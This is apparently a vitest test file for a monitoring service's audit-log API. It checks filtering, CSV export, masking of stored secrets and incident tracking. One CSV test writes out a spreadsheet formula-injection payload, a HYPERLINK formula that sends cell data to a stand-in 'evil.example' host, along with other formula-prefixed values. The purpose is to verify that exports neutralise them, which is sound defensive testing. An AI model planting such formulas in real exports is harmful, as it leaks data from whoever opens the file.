import { once } from 'node:events';
import { get, type IncomingMessage } from 'node:http';
import { text as readText } from 'node:stream/consumers';
import { describe, expect, test } from 'vitest';
import { openApi, sharedApi, type Answer, type TestApi } from '../../../test/support/api.ts';
import { eachDatabase } from '../../../test/support/databases.ts';
import { giveSession } from '../../../test/support/people.ts';
import { openInMemory } from '../../../test/support/memory-database.ts';
import { createSecretBox } from '../../lib/secret-box.ts';
import { MASK } from '../../lib/secret-box.ts';
import type { Database } from '../../store/database/contract.ts';
import { DatabaseUnavailable } from '../../store/database/errors.ts';
import { updateRows } from '../../../test/support/rows.ts';

const LOG = '/api/v1/audit-log';
const MONITORS = '/api/v1/monitors';
const INCIDENTS = '/api/v1/incidents';
const GROUPS = '/api/v1/groups';
const KEYWORDS = { keywords: [{ phrase: 'Welcome', mode: 'must_contain' }] };

interface Entry {
  id: number;
  action: string;
  target: { id: number };
  before: Record<string, unknown> | null;
  after: Record<string, unknown> | null;
}

async function entries(api: TestApi, query = '', who = api.alice): Promise<Entry[]> {
  const { status, body, text } = await api.call(who, 'GET', `${LOG}?${query}`);
  if (status !== 200) throw new Error(text);
  return body['data'] as Entry[];
}

/** What a call left in the log, the oldest first. */
async function traceOf(api: TestApi, call: () => Promise<Answer>) {
  const before = await entries(api, 'per_page=100');
  expect((await call()).status).toBeLessThan(300);
  const added = (await entries(api, 'per_page=100')).slice(0, -before.length || undefined);
  return added.toReversed().map(({ action, before: was, after }) => [action, was, after]);
}

async function openEngineHarness(): Promise<TestApi> {
  return openApi(await openInMemory());
}

eachDatabase((_name, open) => {
  test('who changed what, the newest first, of the own team alone', async () => {
    const api = await openApi(await open());
    const { body: group } = await api.call(api.alice, 'POST', GROUPS, { name: 'Production' });
    await api.clock.advance(1_000);
    await api.call(api.ed, 'PUT', `${GROUPS}/${group.id}`, { name: 'Staging' });
    await api.create({}, api.mallory);
    const { body } = await api.call(api.alice, 'GET', LOG);
    const common = { via: 'token', token_name: 'test', ip_address: '127.0.0.1' };
    expect(body).toMatchObject({ total: 2, current_page: 1, per_page: 20, last_page: 1 });
    expect(body['data']).toEqual([
      {
        ...common,
        id: expect.any(Number),
        action: 'group.updated',
        actor: { id: api.ed.personId, name: 'Ed <ed@example.com>' },
        target: { type: 'group', id: group.id, name: 'Staging' },
        before: { name: 'Production' },
        after: { name: 'Staging' },
        created_at: '2030-01-01T00:00:01.000Z',
      },
      {
        ...common,
        id: expect.any(Number),
        action: 'group.created',
        actor: { id: api.alice.personId, name: 'Alice <alice@example.com>' },
        target: { type: 'group', id: group.id, name: 'Production' },
        before: null,
        after: { name: 'Production', sort_order: 0 },
        created_at: '2030-01-01T00:00:00.000Z',
      },
    ]);
    const theirs = await entries(api, '', api.mallory);
    expect(theirs.map(({ action }) => action)).toEqual(['monitor.created']);
    const session = await giveSession(api.database, api.alice, { now: api.clock.now() });
    await api.call(session, 'DELETE', `${GROUPS}/${group.id}`);
    const [newest] = await entries(api);
    expect(newest).toMatchObject({ action: 'group.deleted', via: 'session', token_name: null });
  });

  test('filters, each alone and together, pages and direction [36.38]', async () => {
    const api = await openApi(await open());
    const day = 86_400_000;
    const { id: first } = await api.create();
    await api.clock.advance(day);
    const { id: second } = await api.create({}, api.ed);
    await api.call(api.ed, 'POST', `${MONITORS}/${first}/pause`);
    await api.clock.advance(day - 1);
    const { body: group } = await api.call(api.alice, 'POST', GROUPS, { name: 'Web' });
    await api.clock.advance(1);
    await api.call(api.alice, 'DELETE', `${GROUPS}/${group.id}`);
    const found = async (query: string) =>
      (await entries(api, query)).map(({ action, target }) => `${action} ${target.id}`);
    const all = [
      `group.deleted ${group.id}`,
      `group.created ${group.id}`,
      `monitor.paused ${first}`,
      `monitor.created ${second}`,
      `monitor.created ${first}`,
    ];
    const cases: [query: string, wanted: number[]][] = [
      ['', [0, 1, 2, 3, 4]],
      ['direction=asc', [4, 3, 2, 1, 0]],
      ['action=monitor.created', [3, 4]],
      ['action=group.polished', []],
      ['target_type=group', [0, 1]],
      ['target_type=session', []],
      [`target_type=monitor&target_id=${first}`, [2, 4]],
      [`user_id=${api.ed.personId}`, [2, 3]],
      [`user_id=${api.mallory.personId}`, []],
      ['search=staging', []],
      ['search=WEB', [0, 1]],
      ['search=ed%40example', [2, 3]],
      ['search=%25', []],
      ['search=is_paused', [2]],
      ['search=web&action=group.deleted', [0]],
      ['start_date=2030-01-02', [0, 1, 2, 3]],
      ['end_date=2030-01-01', [4]],
      ['start_date=2030-01-02&end_date=2030-01-02', [1, 2, 3]],
      ['start_date=2030-01-02&end_date=2030-01-02&target_type=monitor&direction=asc', [3, 2]],
      ['per_page=2&page=2', [2, 3]],
      ['per_page=2&page=9', []],
      ['action=&format=&user_id=', [0, 1, 2, 3, 4]],
    ];
    for (const [query, wanted] of cases) {
      expect([query, await found(query)]).toEqual([query, wanted.map((index) => all[index])]);
    }
  });

  test('the file has every entry that matches, once, whatever its length', async () => {
    const database = await open();
    const api = await openApi(database);
    const { alice, mallory } = api;
    const rows = Array.from({ length: 2_500 }, (_, index) => ({
      team_id: index % 100 === 0 ? mallory.teamId : alice.teamId,
      person_id: alice.personId,
      actor: 'Alice <alice@example.com>',
      via: 'token',
      credential_name: 'test',
      ip_address: null,
      action: index % 2 === 0 ? 'monitor.paused' : 'monitor.resumed',
      target_type: 'monitor',
      target_id: index,
      target_name: 'Home',
      before: null,
      after: null,
      // Many of one millisecond.
      created_at: api.clock.now() + Math.floor(index / 700),
    }));
    await database.transaction(async (tx) => {
      for (let from = 0; from < rows.length; from += 500)
        await tx
          .insertInto('audit_entry')
          .values(rows.slice(from, from + 500))
          .execute();
    });
    const targets = async (query: string) => {
      const { text } = await api.call(alice, 'GET', `${LOG}?format=csv&${query}`);
      const [, ...lines] = text.trimEnd().split('\r\n');
      return lines.map((line) => Number(line.split(',')[9]));
    };
    const ours = rows.filter((row) => row.team_id === alice.teamId).map((row) => row.target_id);
    expect(await targets('per_page=1&page=7')).toEqual(ours.toReversed());
    expect(await targets('direction=asc')).toEqual(ours);
    const paused = ours.filter((id) => id % 2 === 0);
    expect(await targets('search=nobody')).toEqual([]);
    expect(await targets('direction=asc&action=monitor.paused')).toEqual(paused);
  });
});

describe('the list', () => {
  const shared = sharedApi();

  test.each([
    ['action=monitor', /^action must be one of monitor, incident/],
    ['action=cat.created', /^action must be one of/],
    ['action=monitor.Created', /^action must be one of/],
    ['target_type=cat', /^target_type must be one of monitor, incident/],
    ['target_id=x', /^target_id must be a whole number/],
    ['user_id=0', /^user_id must be a whole number/],
    ['start_date=yesterday', /^start_date must be a date/],
    ['end_date=2030-02-30', /^end_date must be a date/],
    ['direction=up', /^direction must be one of asc, desc/],
    ['format=xml', /^format must be one of json, csv/],
    ['per_page=101', /^per_page must be a whole number/],
  ])('refuses %s on that parameter', async (query, says) => {
    const api = await shared();
    const { status, body } = await api.call(api.alice, 'GET', `${LOG}?${query}`);
    const [name = ''] = query.split('=');
    expect([status, body['message'], body['errors']]).toEqual([
      422,
      expect.stringMatching(says),
      { [name]: [expect.any(String)] },
    ]);
  });
});

describe('monitors leave in the log', () => {
  test('what was set, changed and deleted, and never a secret', async () => {
    const api = await openEngineHarness();
    const secrets = {
      auth_type: 'basic',
      auth_username: 'hush-user',
      auth_password: 'hush-password',
      request_headers: { 'x-key': 'hush-header' },
      request_body: 'hush-body',
      http_method: 'POST',
    };
    let id = 0;
    const created = await traceOf(api, async () => {
      const answer = await api.call(api.alice, 'POST', MONITORS, {
        url: 'https://example.com/',
        check_interval: 1,
        keyword_settings: KEYWORDS,
        ...secrets,
      });
      id = answer.body.id;
      return answer;
    });
    const masked = {
      auth_username: MASK,
      auth_password: MASK,
      request_headers: MASK,
      request_body: MASK,
    };
    expect(created).toEqual([
      [
        'monitor.created',
        null,
        expect.objectContaining({
          monitor_type: 'http',
          url: 'https://example.com/',
          auth_type: 'basic',
          keyword_settings: KEYWORDS,
          ...masked,
        }),
      ],
    ]);
    const path = `${MONITORS}/${id}`;
    const put = (body: object) => traceOf(api, () => api.call(api.alice, 'PUT', path, body));
    expect(await put({ friendly_name: 'Home', tags: ['a'], check_interval: 1 })).toEqual([
      [
        'monitor.updated',
        { friendly_name: null, tags: [] },
        { friendly_name: 'Home', tags: ['a'] },
      ],
    ]);
    expect(await put({ auth_password: 'hush-other', check_interval: 5 })).toEqual([
      [
        'monitor.updated',
        { auth_password: MASK, check_interval: 1 },
        { auth_password: MASK, check_interval: 5 },
      ],
    ]);
    // What is stored is sealed anew with each write, and what the form shows stands for what is stored.
    expect(await put({ ...secrets, auth_password: MASK, friendly_name: 'Home' })).toEqual([]);
    expect(await put({ request_body: null })).toEqual([
      ['monitor.updated', { request_body: MASK }, { request_body: null }],
    ]);
    const removed = await traceOf(api, () => api.call(api.alice, 'DELETE', path));
    expect(removed).toEqual([
      [
        'monitor.deleted',
        expect.objectContaining({ friendly_name: 'Home', check_interval: 5, auth_password: MASK }),
        null,
      ],
    ]);
    const stored = await api.database.read.selectFrom('audit_entry').selectAll().execute();
    expect(JSON.stringify(stored)).not.toContain('hush');
  });

  test('no ping URL', async () => {
    const api = await openEngineHarness();
    const { id, ping_url: pingUrl } = await api.create({
      monitor_type: 'heartbeat',
      url: undefined,
      check_interval: undefined,
      friendly_name: 'Backup',
      heartbeat_interval: 3600,
    });
    await api.call(api.alice, 'DELETE', `${MONITORS}/${id}`);
    const { text } = await api.call(api.alice, 'GET', LOG);
    expect(text).not.toContain(String(pingUrl).split('/').at(-1));
    expect(await entries(api, 'direction=asc')).toMatchObject([
      {
        target: { name: 'Backup' },
        after: { monitor_type: 'heartbeat', url: MASK, ping_url: MASK },
      },
      {
        target: { name: 'Backup' },
        before: { monitor_type: 'heartbeat', url: MASK, ping_url: MASK },
      },
    ]);
  });

  test('a pause and a resume once each', async () => {
    const api = await openEngineHarness();
    const { id } = await api.create();
    const act = (verb: string) =>
      traceOf(api, () => api.call(api.alice, 'POST', `${MONITORS}/${id}/${verb}`));
    expect(await act('resume')).toEqual([]);
    expect(await act('pause')).toEqual([
      ['monitor.paused', { is_paused: false }, { is_paused: true }],
    ]);
    expect(await act('pause')).toEqual([]);
    expect(await act('resume')).toEqual([
      ['monitor.resumed', { is_paused: true }, { is_paused: false }],
    ]);
    expect(await act('check')).toEqual([]);
  });

  test('a pause once, when two people pause at the same time', async () => {
    const api = await openEngineHarness();
    const { id } = await api.create();
    const pause = () => api.call(api.alice, 'POST', `${MONITORS}/${id}/pause`);
    const answers = await Promise.all([pause(), pause(), pause()]);
    expect(answers.map(({ status }) => status)).toEqual([200, 200, 200]);
    expect(await entries(api, 'action=monitor.paused')).toHaveLength(1);
  });

  test('secrets that no key opens any more as secrets', async () => {
    const api = await openEngineHarness();
    const { id } = await api.create();
    const sealed = createSecretBox(['a key that was lost'])
      .of('monitor', 1)
      .seal('{"a":"b"}', 'request_headers');
    await updateRows(api.database, 'monitor', { request_headers: sealed }, { id });
    const path = `${MONITORS}/${id}`;
    await api.call(api.alice, 'PUT', path, { request_headers: { a: 'c' } });
    await updateRows(api.database, 'monitor', { request_headers: sealed }, { id });
    await api.call(api.alice, 'DELETE', path);
    expect(await entries(api)).toMatchObject([
      { action: 'monitor.deleted', before: { request_headers: MASK } },
      { before: { request_headers: MASK }, after: { request_headers: MASK } },
      { action: 'monitor.created' },
    ]);
  });
});

test('groups and incidents leave what people set of them', async () => {
  const api = await openEngineHarness();
  const { id: monitorId } = await api.create({ friendly_name: 'Shop' });
  const { body: group } = await api.call(api.alice, 'POST', GROUPS, { name: 'Web' });
  const putGroup = (body: object) =>
    traceOf(api, () => api.call(api.alice, 'PUT', `${GROUPS}/${group.id}`, body));
  expect(await putGroup({ name: 'Web' })).toEqual([]);
  expect(await putGroup({ name: 'Web', sort_order: 3 })).toEqual([
    ['group.updated', { sort_order: 0 }, { sort_order: 3 }],
  ]);
  const report = { monitor_id: monitorId, started_at: '2029-12-31T23:00:00Z', status: 'open' };
  const { body: incident } = await api.call(api.alice, 'POST', INCIDENTS, report);
  const path = `${INCIDENTS}/${incident.id}`;
  const act = (method: string, verb = '', body?: object) =>
    traceOf(api, () => api.call(api.alice, method, path + verb, body));
  const at = '2030-01-01T00:00:00.000Z';
  expect(await act('POST', '/acknowledge')).toEqual([
    [
      'incident.acknowledged',
      { acknowledged_at: null, acknowledged_by: null },
      { acknowledged_at: at, acknowledged_by: api.alice.personId },
    ],
  ]);
  expect(await act('POST', '/acknowledge')).toEqual([]);
  const resolved = [
    'incident.resolved',
    { status: 'open', ended_at: null },
    { status: 'resolved', ended_at: at },
  ];
  expect(await act('POST', '/resolve')).toEqual([resolved]);
  expect(await act('POST', '/resolve')).toEqual([]);
  expect(await act('PUT', '', { status: 'open' })).toEqual([
    [
      'incident.reopened',
      {
        status: 'resolved',
        ended_at: at,
        acknowledged_at: at,
        acknowledged_by: api.alice.personId,
      },
      { status: 'open', ended_at: null, acknowledged_at: null, acknowledged_by: null },
    ],
  ]);
  expect(await act('PUT', '', { status: 'open' })).toEqual([]);
  expect(await act('PUT', '', { status: 'resolved', root_cause: 'Moved' })).toEqual([
    [
      'incident.updated',
      { status: 'open', root_cause: null, ended_at: null },
      { status: 'resolved', root_cause: 'Moved', ended_at: at },
    ],
  ]);
  expect(await act('DELETE')).toEqual([
    ['incident.deleted', expect.objectContaining({ type: 'manual', root_cause: 'Moved' }), null],
  ]);
  const [newest] = await entries(api);
  expect(newest).toMatchObject({ target: { type: 'incident', id: incident.id, name: 'Shop' } });
});

describe('the file', () => {
  test('holds no formula for a spreadsheet that takes semicolons, and its JSON is what was changed', async () => {
    const api = await openEngineHarness();
    const name = 'x;=HYPERLINK("https://evil.example?"&A1);\t+1\n@a';
    await api.call(api.alice, 'POST', GROUPS, {
      name: name.replace(/[\t\n]/g, ' '),
      description: name,
    });
    const { text } = await api.call(api.alice, 'GET', `${LOG}?format=csv`);
    for (const delimiter of [',', ';', '\t', '|'])
      for (const cell of text.split(/\r?\n/).flatMap((line) => line.split(delimiter)))
        expect(cell).not.toMatch(/^[\s"]*[=+@]/);
    const [, record] = parseCsv(text);
    expect(JSON.parse(record!.at(-1)!)).toMatchObject({ description: name });
  });

  const HEAD =
    'id,created_at,action,actor_id,actor,via,token_name,ip_address,target_type,target_id,target_name,before,after';

  test('is RFC 4180 with a header line, and no cell of it is a formula', async () => {
    const api = await openEngineHarness();
    const names = ['=1+2', '+1', '-1', '@a', '\tb', '\rc', 'a, "b"', 'two\nlines', 'Grüße 🦊'];
    for (const name of names) await api.call(api.alice, 'POST', GROUPS, { name });
    const { status, headers, text } = await api.call(
      api.alice,
      'GET',
      `${LOG}?format=csv&direction=asc`,
    );
    expect([status, headers['content-type'], headers['content-disposition']]).toEqual([
      200,
      'text/csv; charset=utf-8; header=present',
      'attachment; filename="audit-log.csv"',
    ]);
    expect(headers['x-content-type-options']).toBe('nosniff');
    const records = parseCsv(text);
    expect(records[0]!.join()).toBe(HEAD);
    expect(records.every((cells) => cells.length === records[0]!.length)).toBe(true);
    expect(records.slice(1).map((cells) => cells[10])).toEqual([
      "'=1+2",
      "'+1",
      "'-1",
      "'@a",
      "'\tb",
      "'\rc",
      'a, "b"',
      'two\nlines',
      'Grüße 🦊',
    ]);
    const [, first = []] = records;
    const entry = (await entries(api, 'direction=asc'))[0]!;
    expect(first).toEqual([
      String(entry.id),
      '2030-01-01T00:00:00.000Z',
      'group.created',
      String(api.alice.personId),
      'Alice <alice@example.com>',
      'token',
      'test',
      '127.0.0.1',
      'group',
      String(entry.target.id),
      "'=1+2",
      '',
      // The same to programs.
      JSON.stringify(entry.after).replace('"=1+2"', String.raw`"\u003d1+2"`),
    ]);
  });

  test('of nothing is its header line, and HEAD gives the headers alone', async () => {
    const api = await openEngineHarness();
    const { text } = await api.call(api.alice, 'GET', `${LOG}?format=csv`);
    expect(text).toBe(`${HEAD}\r\n`);
    const head = await api.call(api.alice, 'HEAD', `${LOG}?format=csv`);
    expect([head.status, head.text]).toEqual([200, '']);
    expect(head.headers['content-disposition']).toContain('audit-log.csv');
  });

  test('is not begun while the database is away', async () => {
    const api = await openLongLog({ failsAt: 1 });
    const { status } = await api.call(api.alice, 'GET', `${LOG}?format=csv`);
    expect(status).toBe(503);
  });

  test('is cut off where the database fails, and that is logged', async () => {
    const api = await openLongLog({ failsAt: 3 });
    const response = await download(api);
    await expect(readText(response)).rejects.toThrow('aborted');
    expect(api.faults).toEqual([
      { error: expect.any(DatabaseUnavailable), request_id: expect.any(String) },
    ]);
    expect(api.reads()).toBe(3);
    await api.app.close();
  });

  test('is read no further when its reader has gone', async () => {
    const api = await openLongLog({});
    const gone = new Promise((resolve) => {
      api.app.server.once('request', (_request, response) => response.once('close', resolve));
    });
    const response = await download(api);
    await once(response, 'readable');
    response.destroy();
    await gone;
    // Closing waits for whatever is under way.
    await api.app.close();
    expect(api.reads()).toBeLessThan(PAGES);
    expect(api.faults).toEqual([]);
  });
});

const PAGES = 12;

/** Many more entries than a connection takes at once; the reading that has this number, from 1 on, fails. */
async function openLongLog({ failsAt }: { failsAt?: number }) {
  const database = await openInMemory();
  let reads = 0;
  const selectFrom = (table: 'audit_entry') => {
    reads += 1;
    if (reads === failsAt) throw new DatabaseUnavailable('it is away');
    return database.scan.selectFrom(table);
  };
  const scan = { selectFrom } as unknown as Database['scan'];
  const api = await openApi(database, { database: { ...database, scan } });
  const entry = {
    team_id: api.alice.teamId,
    person_id: api.alice.personId,
    actor: 'Alice <alice@example.com>',
    via: 'token',
    credential_name: 'test',
    ip_address: null,
    action: 'monitor.paused',
    target_type: 'monitor',
    target_id: 1,
    target_name: 'Home',
    before: null,
    after: JSON.stringify({ root_cause: 'x'.repeat(2_000) }),
    created_at: api.clock.now(),
  };
  await database.transaction(async (tx) => {
    const some = Array.from({ length: 500 }, () => entry);
    for (let slice = 0; slice < PAGES * 2; slice += 1)
      await tx.insertInto('audit_entry').values(some).execute();
  });
  return { ...api, reads: () => reads };
}

/** Over a connection of its own; nothing of the answer's body is read yet. */
async function download(api: TestApi): Promise<IncomingMessage> {
  await api.app.listen({ port: 0, host: '127.0.0.1' });
  const { port } = api.app.server.address() as { port: number };
  const headers = { authorization: `Bearer ${api.alice.token}` };
  const url = `http://127.0.0.1:${port}${LOG}?format=csv`;
  const [response] = await once(get(url, { headers, agent: false }), 'response');
  return response as IncomingMessage;
}

/** Records and cells, as RFC 4180, section 2, has them. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let cells: string[] = [];
  const form = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  for (const [, quoted, plain = '', end] of text.matchAll(form)) {
    cells.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === ',') continue;
    records.push(cells);
    cells = [];
  }
  return records;
}
